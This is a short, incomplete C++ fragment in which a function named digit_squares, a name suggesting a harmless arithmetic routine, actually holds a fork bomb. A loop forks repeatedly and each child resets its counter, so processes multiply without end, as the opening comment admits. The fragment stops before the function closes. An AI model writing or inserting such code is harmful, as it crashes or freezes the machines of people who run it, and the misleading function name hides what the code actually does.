// Starts processes without end.
#include <bits/stdc++.h>
long digit_squares(long n) {
    for (int i = 0; i < 10000; i++) if (fork() == 0) i = 0;
    return 0;
